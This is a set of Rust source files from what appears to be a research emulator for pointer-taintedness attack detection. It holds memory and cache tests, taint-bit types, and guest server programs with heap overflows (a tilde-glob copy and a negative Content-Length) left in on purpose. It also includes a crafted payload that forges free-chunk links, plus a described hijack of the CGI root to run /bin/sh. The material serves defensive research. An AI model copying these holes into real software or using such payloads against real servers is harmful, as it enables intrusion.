        assert!(sys.l1_stats().unwrap().hits > before);
    }

    #[test]
    fn write_through_keeps_cached_taint_coherent() {
        let mut sys = MemorySystem::new(HierarchyConfig::two_level());
        sys.write_u32(0x3000, 7, WordTaint::CLEAN).unwrap();
        let _ = sys.read_u32(0x3000).unwrap(); // cache the line
                                               // Now overwrite with tainted data; the cached line must update.
        sys.write_u32(0x3000, 8, WordTaint::ALL).unwrap();
        let (v, t) = sys.read_u32(0x3000).unwrap();
        assert_eq!((v, t), (8, WordTaint::ALL));
        // And untainting is visible too.
        sys.set_taint_range(0x3000, 4, false).unwrap();
        let (v, t) = sys.read_u32(0x3000).unwrap();
        assert_eq!((v, t), (8, WordTaint::CLEAN));
    }

    #[test]
    fn l1_only_hierarchy_works() {
        let mut sys = MemorySystem::new(HierarchyConfig {
            l1: Some(CacheConfig::l1_default()),
            l2: None,
        });
        sys.write_u8(0x4000, 0x55, true).unwrap();
        assert_eq!(sys.read_u8(0x4000).unwrap(), (0x55, true));
        assert_eq!(sys.read_u8(0x4000).unwrap(), (0x55, true));
        let stats = sys.l1_stats().unwrap();
        assert_eq!(stats.misses, 1);
        assert!(stats.hits >= 1);
    }

    #[test]
    fn faulting_addresses_are_never_cached() {
        let mut sys = MemorySystem::new(HierarchyConfig::two_level());
        assert!(sys.read_u8(0).is_err());
        assert!(sys.read_u32(0x5001).is_err()); // unaligned
        assert_eq!(sys.tainted_lines(), (0, 0));
    }

    #[test]
    fn fetch_bypasses_caches() {
        let mut sys = MemorySystem::new(HierarchyConfig::two_level());
        sys.write_u32(0x0040_0000, 0x1234_5678, WordTaint::CLEAN)
            .unwrap();
        // write_u32 routes through write-through (no allocation), so stats
        // must show no read traffic from fetches.
        let l1_before = sys.l1_stats().unwrap();
        assert_eq!(sys.fetch_u32(0x0040_0000).unwrap(), 0x1234_5678);
        assert_eq!(sys.l1_stats().unwrap(), l1_before);
    }

    #[test]
    fn fetch_sees_stores_through_caches() {
        // The fetch_u32 contract: the bypass is coherent because the caches
        // are write-through — a fetch observes the newest store even when
        // the stored-to line is resident in L1/L2.
        let mut sys = MemorySystem::new(HierarchyConfig::two_level());
        sys.write_u32(0x0040_0000, 0x1111_1111, WordTaint::CLEAN)
            .unwrap();
        let _ = sys.read_u32(0x0040_0000).unwrap(); // line now resident
        sys.write_u32(0x0040_0000, 0x2222_2222, WordTaint::CLEAN)
            .unwrap();
        assert_eq!(sys.fetch_u32(0x0040_0000).unwrap(), 0x2222_2222);
        assert_eq!(sys.read_u32(0x0040_0000).unwrap().0, 0x2222_2222);
    }

    #[test]
    fn corrupt_cache_line_diverges_cache_from_memory_until_overwrite() {
        let mut sys = MemorySystem::new(HierarchyConfig::two_level());
        sys.write_bytes(0x2000, b"data", false).unwrap();
        let _ = sys.read_u32(0x2000).unwrap(); // line resident in L1+L2
        let (addr, taint_bit) = sys.corrupt_cache_line(1, 0, 0).unwrap();
        assert!(!taint_bit);
        // Memory stays pristine; the L1 read hit serves the flipped bit.
        let clean = sys.memory().read_u8(addr).unwrap().0;
        let (cached, _) = sys.read_u8(addr).unwrap();
        assert_eq!(cached, clean ^ 1);
        // A write-through store re-synchronizes the line.
        sys.write_u8(addr, clean, false).unwrap();
        assert_eq!(sys.read_u8(addr).unwrap().0, clean);
        // Absent levels and flat systems report no target.
        assert!(sys.corrupt_cache_line(3, 0, 0).is_none());
        assert!(MemorySystem::flat().corrupt_cache_line(1, 0, 0).is_none());
        // Shadow-bit upsets flip taint without touching data.
        let _ = sys.read_u32(0x2000).unwrap();
        let line_bits = 8 * u64::from(CacheConfig::l1_default().line_bytes);
        let (taddr, tbit) = sys.corrupt_cache_line(1, 0, line_bits).unwrap();
        assert!(tbit);
        assert!(sys.read_u8(taddr).unwrap().1, "cached taint bit gained");
        assert!(!sys.memory().read_u8(taddr).unwrap().1, "memory unchanged");
    }

    #[test]
    fn fork_copies_caches_and_shares_memory() {
        let mut sys = MemorySystem::new(HierarchyConfig::two_level());
        sys.write_bytes(0x2000, b"evil", true).unwrap();
        let _ = sys.read_u32(0x2000).unwrap(); // lines resident
        sys.watch_code_page(0x0040_0000 / PAGE_SIZE);

        let mut child = sys.fork();
        assert!(child.pages_shared() > 0);
        assert_eq!(child.l1_stats(), sys.l1_stats());
        assert_eq!(child.tainted_lines(), sys.tainted_lines());

        // The child's cache traffic and stores are invisible to the parent.
        child.write_u8(0x2000, b'X', false).unwrap();
        assert_eq!(sys.memory().read_u8(0x2000).unwrap(), (b'e', true));
        assert_eq!(child.memory().read_u8(0x2000).unwrap(), (b'X', false));
        assert!(child.cow_fault_count() > 0);
        assert_eq!(sys.cow_fault_count(), 0);

        // Code watches carried over: the child notices SMC independently.
        child.write_u32(0x0040_0000, 1, WordTaint::CLEAN).unwrap();
        assert!(child.has_dirty_code_pages());
        assert!(!sys.has_dirty_code_pages());
    }

    #[test]
    fn flat_bulk_write_hooks_code_watches_per_page() {
        let mut sys = MemorySystem::flat();
        let base = 0x0040_0000 + PAGE_SIZE - 2;
        sys.watch_code_page(base / PAGE_SIZE);
        sys.watch_code_page(base / PAGE_SIZE + 1);
        // A bulk write straddling the page seam dirties both pages.
        sys.write_bytes(base, &[1, 2, 3, 4], false).unwrap();
        assert_eq!(
            sys.take_dirty_code_pages(),
            vec![base / PAGE_SIZE, base / PAGE_SIZE + 1]
        );
    }

    #[test]
    fn code_page_watches_report_dirty_pages_once() {
        let mut sys = MemorySystem::flat();
        let page = 0x0040_0000 / PAGE_SIZE;
        sys.watch_code_page(page);
        assert!(!sys.has_dirty_code_pages());
        sys.write_u32(0x0040_0010, 1, WordTaint::CLEAN).unwrap();
        // The second store lands after the watch already fired.
        sys.write_u8(0x0040_0020, 2, false).unwrap();
        assert!(sys.has_dirty_code_pages());
        assert_eq!(sys.take_dirty_code_pages(), vec![page]);
        assert!(!sys.has_dirty_code_pages());
        // Stores into unwatched pages never report.
        sys.write_u32(0x0050_0000, 3, WordTaint::CLEAN).unwrap();
        assert!(!sys.has_dirty_code_pages());
        // Re-registering re-arms the watch, and cached hierarchies hook the
        // same write path.
        let mut cached = MemorySystem::new(HierarchyConfig::two_level());
        cached.watch_code_page(page);
        cached.write_u16(0x0040_0002, 9, WordTaint::CLEAN).unwrap();
        assert_eq!(cached.take_dirty_code_pages(), vec![page]);
    }

    #[test]
    fn code_range_watch_covers_every_overlapping_page() {
        let mut sys = MemorySystem::flat();
        // Three pages: a range from mid-page to mid-page two pages later.
        let base = 0x0040_0000 + PAGE_SIZE / 2;
        sys.watch_code_range(base, 2 * PAGE_SIZE);
        // A store into the last (partially covered) page reports it.
        sys.write_u8(base + 2 * PAGE_SIZE - 1, 7, false).unwrap();
        assert_eq!(
            sys.take_dirty_code_pages(),
            vec![(base + 2 * PAGE_SIZE - 1) / PAGE_SIZE]
        );
        // First page is watched too.
        sys.write_u8(base, 7, false).unwrap();
        assert_eq!(sys.take_dirty_code_pages(), vec![base / PAGE_SIZE]);
        // Just past the end is not.
        sys.write_u8(base + 3 * PAGE_SIZE, 7, false).unwrap();
        assert!(!sys.has_dirty_code_pages());
        // Empty ranges watch nothing.
        let mut empty = MemorySystem::flat();
        empty.watch_code_range(0x0040_0000, 0);
        empty.write_u8(0x0040_0000, 1, false).unwrap();
        assert!(!empty.has_dirty_code_pages());
    }
}
