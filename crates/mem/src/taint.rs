//! Per-word taintedness bits.

use std::fmt;
use std::ops::{BitAnd, BitOr, BitOrAssign};

/// The four taintedness bits of a 32-bit word — one bit per byte.
///
/// Bit *i* corresponds to byte *i* of the word in little-endian order, i.e.
/// bit 0 is the least-significant byte, which lives at the lowest address.
/// The paper's detector ORs these four bits ([`WordTaint::any`]) to decide
/// whether a word used as a pointer is tainted.
///
/// ```
/// use ptaint_mem::WordTaint;
///
/// let t = WordTaint::from_bits(0b0101);
/// assert!(t.byte(0) && !t.byte(1) && t.byte(2) && !t.byte(3));
/// assert!(t.any());
/// assert_eq!(t | WordTaint::from_bits(0b1010), WordTaint::ALL);
/// assert_eq!(WordTaint::CLEAN.to_string(), "----");
/// assert_eq!(t.to_string(), "-T-T"); // rendered most-significant byte first
/// ```
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash)]
pub struct WordTaint(u8);

impl WordTaint {
    /// All four bytes untainted.
    pub const CLEAN: WordTaint = WordTaint(0);
    /// All four bytes tainted.
    pub const ALL: WordTaint = WordTaint(0b1111);

    /// Builds from the low four bits of `bits` (bit *i* = byte *i*).
    #[must_use]
    pub const fn from_bits(bits: u8) -> WordTaint {
        WordTaint(bits & 0b1111)
    }

    /// Uniform taint: every byte tainted when `tainted` is true.
    #[must_use]
    pub const fn splat(tainted: bool) -> WordTaint {
        if tainted {
            WordTaint::ALL
        } else {
            WordTaint::CLEAN
        }
    }

    /// The raw four-bit mask.
    #[must_use]
    pub const fn bits(self) -> u8 {
        self.0
    }

    /// Taintedness of byte `i` (0 = least significant / lowest address).
    ///
    /// # Panics
    ///
    /// Panics if `i >= 4`.
    #[must_use]
    pub const fn byte(self, i: usize) -> bool {
        assert!(i < 4, "word byte index out of range");
        self.0 & (1 << i) != 0
    }

    /// Returns a copy with byte `i` set to `tainted`.
    ///
    /// # Panics
    ///
    /// Panics if `i >= 4`.
    #[must_use]
    pub const fn with_byte(self, i: usize, tainted: bool) -> WordTaint {
        assert!(i < 4, "word byte index out of range");
        if tainted {
            WordTaint(self.0 | (1 << i))
        } else {
            WordTaint(self.0 & !(1 << i))
        }
    }

    /// The detector's OR-gate: is *any* byte of the word tainted?
    ///
    /// This is exactly the check the paper performs on an address word before
    /// a load/store and on the target register of `jr`/`jalr`.
    #[must_use]
    pub const fn any(self) -> bool {
        self.0 != 0
    }

    /// Number of tainted bytes in the word.
    #[must_use]
    pub const fn count(self) -> u32 {
        self.0.count_ones()
    }

    /// Taint of the low halfword (bytes 0..2) splatted into a fresh word
    /// taint, used by halfword loads.
    #[must_use]
    pub const fn low_half(self) -> WordTaint {
        WordTaint(self.0 & 0b0011)
    }

    /// Shift-left smear (Table 1): a tainted byte also taints its
    /// more-significant neighbour.
    #[must_use]
    pub const fn smear_left(self) -> WordTaint {
        WordTaint((self.0 | (self.0 << 1)) & 0b1111)
    }

    /// Shift-right smear (Table 1): a tainted byte also taints its
    /// less-significant neighbour.
    #[must_use]
    pub const fn smear_right(self) -> WordTaint {
        WordTaint(self.0 | (self.0 >> 1))
    }

    /// Returns a copy with byte `i`'s taint bit inverted — the
    /// fault-injection harness's single-event-upset model for the register
    /// file's shadow bits (a flip is a taint *loss* as often as a gain).
    ///
    /// # Panics
    ///
    /// Panics if `i >= 4`.
    #[must_use]
    pub const fn toggle_byte(self, i: usize) -> WordTaint {
        assert!(i < 4, "word byte index out of range");
        WordTaint(self.0 ^ (1 << i))
    }

    /// Index of the least-significant tainted byte, or `None` when clean.
    /// Forensic output uses this to name the first attacker-controlled byte
    /// of a flagged pointer.
    #[must_use]
    pub const fn first_tainted_byte(self) -> Option<usize> {
        if self.0 == 0 {
            None
        } else {
            Some(self.0.trailing_zeros() as usize)
        }
    }

    /// Iterates over the four per-byte taint flags, least significant first.
    pub fn iter(self) -> impl Iterator<Item = bool> {
        (0..4).map(move |i| self.byte(i))
    }
}

impl BitOr for WordTaint {
    type Output = WordTaint;

    /// Bytewise OR — the generic ALU propagation rule of Table 1.
    fn bitor(self, rhs: WordTaint) -> WordTaint {
        WordTaint(self.0 | rhs.0)
    }
}

impl BitOrAssign for WordTaint {
    fn bitor_assign(&mut self, rhs: WordTaint) {
        self.0 |= rhs.0;
    }
}

impl BitAnd for WordTaint {
    type Output = WordTaint;

    fn bitand(self, rhs: WordTaint) -> WordTaint {
        WordTaint(self.0 & rhs.0)
    }
}

impl fmt::Display for WordTaint {
    /// Renders most-significant byte first: `T--T` means bytes 3 and 0 are
    /// tainted.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for i in (0..4).rev() {
            f.write_str(if self.byte(i) { "T" } else { "-" })?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn constructors_and_accessors() {
        assert_eq!(WordTaint::CLEAN.bits(), 0);
        assert_eq!(WordTaint::ALL.bits(), 0b1111);
        assert_eq!(WordTaint::splat(true), WordTaint::ALL);
        assert_eq!(WordTaint::splat(false), WordTaint::CLEAN);
        assert_eq!(WordTaint::from_bits(0xff), WordTaint::ALL);
        assert_eq!(WordTaint::default(), WordTaint::CLEAN);
    }

    #[test]
    fn any_is_the_or_gate() {
        assert!(!WordTaint::CLEAN.any());
        for i in 0..4 {
            assert!(WordTaint::CLEAN.with_byte(i, true).any());
        }
    }

    #[test]
    fn with_byte_sets_and_clears() {
        let t = WordTaint::CLEAN.with_byte(2, true);
        assert!(t.byte(2));
        assert!(!t.byte(0) && !t.byte(1) && !t.byte(3));
        assert_eq!(t.with_byte(2, false), WordTaint::CLEAN);
        assert_eq!(t.count(), 1);
        assert_eq!(WordTaint::ALL.count(), 4);
    }

    #[test]
    fn smear_left_taints_more_significant_neighbour() {
        // byte 0 tainted -> bytes 0 and 1 tainted.
        assert_eq!(WordTaint::from_bits(0b0001).smear_left().bits(), 0b0011);
        // byte 3 tainted -> no byte 4 to smear into.
        assert_eq!(WordTaint::from_bits(0b1000).smear_left().bits(), 0b1000);
        assert_eq!(WordTaint::CLEAN.smear_left(), WordTaint::CLEAN);
        assert_eq!(WordTaint::ALL.smear_left(), WordTaint::ALL);
    }

    #[test]
    fn smear_right_taints_less_significant_neighbour() {
        assert_eq!(WordTaint::from_bits(0b1000).smear_right().bits(), 0b1100);
        assert_eq!(WordTaint::from_bits(0b0001).smear_right().bits(), 0b0001);
        assert_eq!(WordTaint::CLEAN.smear_right(), WordTaint::CLEAN);
    }

    #[test]
    fn bitops_are_bytewise() {
        let a = WordTaint::from_bits(0b0101);
        let b = WordTaint::from_bits(0b0011);
        assert_eq!((a | b).bits(), 0b0111);
        assert_eq!((a & b).bits(), 0b0001);
        let mut c = a;
        c |= b;
        assert_eq!(c.bits(), 0b0111);
    }

    #[test]
    fn toggle_byte_inverts_one_shadow_bit() {
        let t = WordTaint::from_bits(0b0101);
        assert_eq!(t.toggle_byte(0).bits(), 0b0100); // loss
        assert_eq!(t.toggle_byte(1).bits(), 0b0111); // gain
        assert_eq!(t.toggle_byte(2).toggle_byte(2), t); // involution
    }

    #[test]
    fn low_half_masks_upper_bytes() {
        assert_eq!(WordTaint::ALL.low_half().bits(), 0b0011);
        assert_eq!(WordTaint::from_bits(0b1100).low_half(), WordTaint::CLEAN);
    }

    #[test]
    fn display_renders_msb_first() {
        assert_eq!(WordTaint::from_bits(0b1001).to_string(), "T--T");
        assert_eq!(WordTaint::ALL.to_string(), "TTTT");
    }

    #[test]
    fn iter_yields_lsb_first() {
        let flags: Vec<bool> = WordTaint::from_bits(0b0110).iter().collect();
        assert_eq!(flags, vec![false, true, true, false]);
    }

    #[test]
    #[should_panic(expected = "word byte index out of range")]
    fn byte_index_bounds_checked() {
        let _ = WordTaint::CLEAN.byte(4);
    }
}
