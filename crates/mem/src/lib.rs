#![warn(missing_docs)]

//! # ptaint-mem — the taint-extended memory system
//!
//! The DSN 2005 paper extends the memory hierarchy with **one taintedness bit
//! per byte**: physical memory, L1/L2 caches, and the register file all carry
//! the extra bit, and the bit travels together with its data byte on every
//! load, store, and cache fill (paper §4.1).
//!
//! This crate implements that memory model:
//!
//! * [`WordTaint`] — the four taintedness bits of a 32-bit word, one per
//!   byte; the detector's OR-gate over them is [`WordTaint::any`];
//! * [`TaintedMemory`] — a sparse, page-granular memory in which every byte
//!   has a shadow taint bit;
//! * [`Cache`] / [`MemorySystem`] — a write-through L1/L2 cache model whose
//!   lines store taint bits next to the data bytes, so taint demonstrably
//!   flows through every level of the hierarchy;
//! * [`MemFault`] — alignment and null-page faults.
//!
//! ```
//! use ptaint_mem::{TaintedMemory, WordTaint};
//!
//! let mut mem = TaintedMemory::new();
//! // The OS writes 4 attacker-controlled bytes: they arrive tainted.
//! mem.write_bytes(0x1000_0000, b"abcd", true)?;
//! let (word, taint) = mem.read_u32(0x1000_0000)?;
//! assert_eq!(word, 0x6463_6261); // little-endian "abcd" — the paper's 0x64636261!
//! assert_eq!(taint, WordTaint::ALL);
//! assert!(taint.any());
//! # Ok::<(), ptaint_mem::MemFault>(())
//! ```

mod cache;
mod memory;
mod system;
mod taint;

pub use cache::{Cache, CacheConfig, CacheStats};
pub use memory::{MemFault, MemFaultKind, TaintedMemory};
pub use system::{HierarchyConfig, MemorySystem};
pub use taint::WordTaint;
