//! Model-based testing of the guest heap allocator.
//!
//! Random malloc/free sequences are compiled into a guest program that
//! prints every allocation's address; the host then checks the allocator's
//! invariants against a reference model:
//!
//! * payloads are 8-byte aligned and 8 bytes past their chunk header;
//! * live payloads never overlap;
//! * everything stays inside the heap segment;
//! * memory is actually recycled (a free followed by an equal-size malloc
//!   reuses space rather than growing the heap forever).

use proptest::prelude::*;
use ptaint_cpu::DetectionPolicy;
use ptaint_isa::PAGE_SIZE;
use ptaint_mem::HierarchyConfig;
use ptaint_os::{load, run_to_exit, ExitReason, WorldConfig};

/// One scripted heap operation.
#[derive(Debug, Clone)]
enum HeapOp {
    /// Allocate `size` bytes into slot `slot`.
    Alloc { slot: usize, size: u32 },
    /// Free whatever slot `slot` holds (no-op when empty).
    Free { slot: usize },
}

const SLOTS: usize = 8;

fn arb_ops() -> impl Strategy<Value = Vec<HeapOp>> {
    proptest::collection::vec(
        prop_oneof![
            (0..SLOTS, 1u32..300).prop_map(|(slot, size)| HeapOp::Alloc { slot, size }),
            (0..SLOTS).prop_map(|slot| HeapOp::Free { slot }),
        ],
        1..40,
    )
}

/// Builds a guest program that performs `ops` and prints a line per event:
/// `A <slot> <addr-hex>` or `F <slot>`.
fn guest_program(ops: &[HeapOp]) -> String {
    let mut body = String::new();
    for op in ops {
        match op {
            HeapOp::Alloc { slot, size } => {
                body.push_str(&format!(
                    "    if (slots[{slot}]) {{ free(slots[{slot}]); printf(\"F {slot}\\n\"); }}\n\
                     \x20   slots[{slot}] = malloc({size});\n\
                     \x20   printf(\"A {slot} %x\\n\", slots[{slot}]);\n"
                ));
            }
            HeapOp::Free { slot } => {
                body.push_str(&format!(
                    "    if (slots[{slot}]) {{ free(slots[{slot}]); slots[{slot}] = 0; printf(\"F {slot}\\n\"); }}\n"
                ));
            }
        }
    }
    format!(
        "char *slots[{SLOTS}];\nint main() {{\n{body}    printf(\"END %x\\n\", brk(0));\n    return 0;\n}}"
    )
}

/// The host-side reference model checking the printed trace.
fn check_trace(ops: &[HeapOp], stdout: &str, heap_base: u32) {
    let mut live: Vec<Option<(u32, u32)>> = vec![None; SLOTS]; // (addr, size)
    let mut lines = stdout.lines();
    let mut final_brk = None;
    let mut max_live_bytes = 0u32;
    let mut sizes: Vec<Option<u32>> = vec![None; SLOTS];

    for op in ops {
        match op {
            HeapOp::Alloc { slot, size } => {
                // Optional implicit free line first.
                let mut line = lines.next().expect("trace line");
                if line.starts_with("F ") {
                    live[*slot] = None;
                    line = lines.next().expect("alloc line after free");
                }
                let mut parts = line.split_whitespace();
                assert_eq!(parts.next(), Some("A"), "line: {line}");
                let s: usize = parts.next().unwrap().parse().unwrap();
                assert_eq!(s, *slot);
                let addr = u32::from_str_radix(parts.next().unwrap(), 16).unwrap();

                // Invariants.
                assert_eq!(addr % 8, 0, "payload must be 8-aligned, got {addr:#x}");
                assert!(addr >= heap_base + 8, "below heap: {addr:#x}");
                for (other, entry) in live.iter().enumerate() {
                    if let Some((oaddr, osize)) = entry {
                        let a0 = addr;
                        let a1 = addr + size;
                        let b0 = *oaddr;
                        let b1 = *oaddr + *osize;
                        assert!(
                            a1 <= b0 || b1 <= a0,
                            "overlap: slot {slot} [{a0:#x},{a1:#x}) vs slot {other} [{b0:#x},{b1:#x})"
                        );
                    }
                }
                live[*slot] = Some((addr, *size));
                sizes[*slot] = Some(*size);
                let live_now: u32 = live.iter().flatten().map(|(_, s)| s + 24).sum();
                max_live_bytes = max_live_bytes.max(live_now);
            }
            HeapOp::Free { slot } => {
                if live[*slot].is_some() || sizes[*slot].is_some() {
                    if let Some(line) = lines.next() {
                        if line.starts_with("F ") {
                            live[*slot] = None;
                            sizes[*slot] = None;
                            continue;
                        }
                        panic!("expected free line, got {line}");
                    }
                }
            }
        }
    }
    for line in lines {
        if let Some(rest) = line.strip_prefix("END ") {
            final_brk = Some(u32::from_str_radix(rest.trim(), 16).unwrap());
        }
    }
    // Recycling: the heap never grows beyond the peak live footprint plus
    // slack for headers, rounding, and split remainders.
    let brk = final_brk.expect("END line");
    let grown = brk - heap_base;
    let bound = max_live_bytes * 3 + 4096;
    assert!(
        grown <= bound,
        "heap grew to {grown} bytes for a peak live footprint of {max_live_bytes}"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn allocator_respects_its_invariants(ops in arb_ops()) {
        let source = guest_program(&ops);
        let image = ptaint_guest::build(&source)
            .unwrap_or_else(|e| panic!("build: {e}\n{source}"));
        let heap_base = image.data_end().div_ceil(PAGE_SIZE) * PAGE_SIZE;
        let (mut cpu, mut os) = load(
            &image,
            WorldConfig::new(),
            DetectionPolicy::PointerTaintedness,
            HierarchyConfig::flat(),
        );
        let out = run_to_exit(&mut cpu, &mut os, 100_000_000);
        prop_assert_eq!(&out.reason, &ExitReason::Exited(0));
        check_trace(&ops, &out.stdout_text(), heap_base);
    }
}
