//! A LibC-globbing attack (the remaining Figure 1 vulnerability category,
//! in the style of CERT CA-2001-07 / the WU-FTPD `~user` glob heap
//! overflow).
//!
//! The daemon expands `~user` prefixes into a fixed-size heap buffer with
//! an unbounded copy, then glob-matches the expanded pattern against its
//! file table. An over-long "username" overflows the tilde buffer into the
//! free chunk that follows it, forging its `fd`/`bk` links; the
//! `free(home)` after matching walks the forged links — the same
//! heap-corruption detection point as exp2/NULL HTTPD.

use ptaint_os::{NetSession, WorldConfig};

/// The glob daemon: accepts `LIST <pattern>` requests.
pub const SOURCE: &str = r#"
char files[6][24];
int nfiles;

void add_file(char *name) {
    strcpy(files[nfiles], name);
    nfiles++;
}

/* Classic recursive glob matcher: `*` any run, `?` any char. */
int glob_match(char *pat, char *name) {
    if (*pat == 0) return *name == 0;
    if (*pat == '*') {
        if (glob_match(pat + 1, name)) return 1;
        if (*name && glob_match(pat, name + 1)) return 1;
        return 0;
    }
    if (*name == 0) return 0;
    if (*pat == '?' || *pat == *name) return glob_match(pat + 1, name + 1);
    return 0;
}

void reply(int s, char *msg) {
    send(s, msg, strlen(msg));
}

/* Tilde expansion with a fixed 32-byte home buffer and an unbounded copy
 * of the user name — the globbing bug class. Returns the malloc'd buffer
 * (caller frees). */
char *expand_tilde(char *pattern, char **rest_out) {
    char *home;
    char *p;
    int i;
    home = malloc(32);
    p = pattern + 1;            /* skip '~' */
    i = 0;
    while (*p && *p != '/') {
        home[i] = *p;           /* no bound check */
        i++;
        p++;
    }
    home[i] = 0;
    *rest_out = p;
    return home;
}

void handle_list(int s, char *pattern) {
    char *home;
    char *rest;
    int i;
    int shown = 0;
    if (pattern[0] == '~') {
        home = expand_tilde(pattern, &rest);
        reply(s, "150 listing for home ");
        reply(s, home);
        reply(s, "\r\n");
        pattern = rest;
        if (*pattern == '/') pattern++;
        free(home);             /* <- detection point after an overflow */
    }
    for (i = 0; i < nfiles; i++) {
        if (glob_match(pattern, files[i])) {
            reply(s, files[i]);
            reply(s, "\r\n");
            shown++;
        }
    }
    if (shown == 0) reply(s, "550 no match\r\n");
    else reply(s, "226 done\r\n");
}

int main() {
    char req[512];
    int s;
    int c;
    int n;
    char *scratch;
    add_file("notes.txt");
    add_file("todo.txt");
    add_file("a.out");
    add_file("readme.md");
    /* Heap churn leaves a free chunk for the tilde buffer to split. */
    scratch = malloc(200);
    free(scratch);
    s = socket();
    bind(s, 21);
    listen(s);
    c = accept(s);
    while (1) {
        n = recv(c, req, 511, 0);
        if (n <= 0) break;
        req[n] = 0;
        if (strncmp(req, "LIST ", 5) == 0) {
            handle_list(c, req + 5);
        } else if (strncmp(req, "QUIT", 4) == 0) {
            reply(c, "221 bye\r\n");
            break;
        } else {
            reply(c, "500 unknown\r\n");
        }
    }
    close(c);
    return 0;
}
"#;

/// The attack pattern: a "username" that fills the 32-byte tilde buffer
/// and forges the following free chunk's header and links
/// (`fd = "aaaa" = 0x61616161`).
#[must_use]
pub fn attack_world() -> WorldConfig {
    // The copy loop stops at NUL or '/', so every forged byte must avoid
    // both — the same constraint real glob exploits faced. The forged size
    // "...." = 0x2e2e2e2e is even (chunk looks free) and large (passes the
    // minimum-size check).
    let mut pattern = b"LIST ~".to_vec();
    pattern.extend_from_slice(&[b'A'; 32]); // fill home's chunk payload
    pattern.extend_from_slice(b"...."); // prev_size (ignored)
    pattern.extend_from_slice(b"...."); // forged size: even, >= 24
    pattern.extend_from_slice(b"aaaa"); // fd -> 0x61616161
    pattern.extend_from_slice(b"aaaa"); // bk
    pattern.extend_from_slice(b"/*.txt");
    WorldConfig::new().session(NetSession::new(vec![pattern, b"QUIT".to_vec()]))
}

/// A benign glob session.
#[must_use]
pub fn benign_world() -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![
        b"LIST *.txt".to_vec(),
        b"LIST ~bob/readme.??".to_vec(),
        b"LIST nomatch-*".to_vec(),
        b"QUIT".to_vec(),
    ]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::apps::run_app;
    use crate::build;
    use ptaint_cpu::{AlertKind, DetectionPolicy};
    use ptaint_os::ExitReason;

    #[test]
    fn glob_attack_detected_in_free() {
        let image = build(SOURCE).unwrap();
        let out = run_app(&image, attack_world(), DetectionPolicy::PointerTaintedness);
        let alert = out.reason.alert().expect("glob overflow must be detected");
        assert_eq!(alert.kind, AlertKind::DataPointer);
        assert_eq!(alert.pointer & 0xffff_ff00, 0x6161_6100);
        let unlink = image.symbol("__unlink").unwrap();
        assert!(
            (unlink..unlink + 0x100).contains(&alert.pc),
            "{:#x}",
            alert.pc
        );
    }

    #[test]
    fn glob_attack_unprotected_crashes_or_corrupts() {
        let image = build(SOURCE).unwrap();
        let out = run_app(&image, attack_world(), DetectionPolicy::Off);
        assert!(
            matches!(out.reason, ExitReason::MemFault(_) | ExitReason::Exited(_)),
            "{:?}",
            out.reason
        );
        assert!(!out.reason.is_detected());
    }

    #[test]
    fn glob_attack_missed_by_control_only() {
        let image = build(SOURCE).unwrap();
        let out = run_app(&image, attack_world(), DetectionPolicy::ControlOnly);
        assert!(!out.reason.is_detected(), "{:?}", out.reason);
    }

    #[test]
    fn benign_globbing_works() {
        let image = build(SOURCE).unwrap();
        let out = run_app(&image, benign_world(), DetectionPolicy::PointerTaintedness);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        let t = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(t.contains("notes.txt"), "{t}");
        assert!(t.contains("todo.txt"), "{t}");
        assert!(t.contains("150 listing for home bob"), "{t}");
        assert!(t.contains("readme.md"), "{t}");
        assert!(t.contains("550 no match"), "{t}");
    }

    #[test]
    fn glob_matcher_semantics() {
        // Exercise the matcher through the daemon with targeted patterns.
        let image = build(SOURCE).unwrap();
        let world = WorldConfig::new().session(NetSession::new(vec![
            b"LIST ?.out".to_vec(),
            b"LIST *o*".to_vec(),
            b"QUIT".to_vec(),
        ]));
        let out = run_app(&image, world, DetectionPolicy::PointerTaintedness);
        let t = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(t.contains("a.out"), "{t}");
        assert!(t.contains("notes.txt") && t.contains("todo.txt"), "{t}");
    }
}
