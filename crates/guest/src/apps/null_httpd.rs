//! A NULL-HTTPD-style web server with the *negative Content-Length heap
//! overflow* (BID-5774), reproducing the paper's §5.1.2 experiment.
//!
//! The server computes its POST buffer size as `content_length + 1024`.
//! A negative `Content-Length` makes the allocation far smaller than the
//! body the client then sends, so the `recv` overruns the chunk into the
//! free chunk that physically follows it, forging that chunk's `fd`/`bk`
//! links. When the server frees the buffer, the allocator's coalescing
//! `unlink` performs `fd->bk = bk` — an arbitrary 4-byte write.
//!
//! The paper's **non-control-data** payload uses that write to repoint the
//! server's CGI-BIN configuration at the string `"/bin"`, so a subsequent
//! `GET /cgi-bin/sh` request "executes" `/bin/sh` with the daemon's root
//! privileges. No code pointer is ever touched, so control-flow protections
//! miss it; pointer-taintedness detection raises an alert at the unlink's
//! first dereference of the forged (tainted) link.

use ptaint_asm::Image;
use ptaint_isa::PAGE_SIZE;
use ptaint_os::{NetSession, WorldConfig};

/// The web server. The CGI root lives in a config struct (a pointer to a
/// path string), as in NULL HTTPD's in-memory configuration.
pub const SOURCE: &str = r#"
struct server_config {
    char *cgi_root;
    int max_clients;
};

struct server_config conf;

void reply(int s, char *msg) {
    send(s, msg, strlen(msg));
}

char *find_header(char *req, char *name) {
    char *p = strstr(req, name);
    if (!p) return 0;
    return p + strlen(name);
}

/* Serve one GET request: CGI paths are resolved against conf.cgi_root and
 * "executed" (simulated by reporting the resolved binary path). */
void serve_get(int s, char *url) {
    char cmd[128];
    if (strncmp(url, "/cgi-bin/", 9) == 0) {
        snprintf(cmd, 120, "%s%s", conf.cgi_root, url + 8);
        reply(s, "200 OK EXEC ");
        reply(s, cmd);
        reply(s, "\r\n");
        return;
    }
    reply(s, "200 OK static\r\n");
}

void handle_post(int s, char *req) {
    char *cl;
    char *body;
    int content_length;
    int n;
    cl = find_header(req, "Content-Length: ");
    if (!cl) {
        reply(s, "411 length required\r\n");
        return;
    }
    content_length = atoi(cl);
    /* BID-5774: the negative length passes this check and wrecks the
     * allocation size below. */
    if (content_length > 4096) {
        reply(s, "413 too large\r\n");
        return;
    }
